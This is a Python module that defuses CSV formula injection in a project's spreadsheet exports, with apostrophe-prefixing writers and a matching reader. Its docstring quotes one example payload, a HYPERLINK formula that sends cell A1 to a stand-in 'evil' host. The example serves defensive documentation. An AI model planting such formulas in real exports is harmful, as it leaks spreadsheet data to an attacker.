"""One rule for every CSV that CoNet writes: text a spreadsheet would run as a formula is defused.

A cell that starts with =, +, -, @, a tab or a carriage return is a formula to Excel and
LibreOffice (CSV or formula injection, OWASP): `=HYPERLINK("http://evil/?"&A1, "click")` in a
resident's card would run on a coordinator's machine. Such text gets a leading apostrophe, which
spreadsheets show as text and do not display. Numbers are left alone (a vote of -1 stays -1).
Our importers read the apostrophe back off, so an export imports again unchanged.

    writer = spreadsheet.writer(buffer)        # csv.writer that defuses every text cell
    writer = spreadsheet.DictWriter(buffer, fieldnames=[...])
    spreadsheet.read_cell(text)                # what an importer does with each text cell
"""

import csv
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The cell as written: text that starts like a formula gets a leading apostrophe."""
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def read_cell(text: str) -> str:
    """The cell as it was before `safe_cell`: one apostrophe in front of a formula start is ours."""
    if text.startswith("'") and text[1:2] and text[1:2] in FORMULA_STARTS:
        return text[1:]
    return text


class _Writer:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class DictWriter(csv.DictWriter):
    """csv.DictWriter that defuses every text cell (the header is ours and left as it is)."""

    def writerow(self, rowdict):
        return super().writerow({key: safe_cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts):
        for row in rowdicts:
            self.writerow(row)


def writer(out, **options) -> _Writer:
    """csv.writer(out, **options) that defuses every text cell it writes."""
    return _Writer(csv.writer(out, **options))
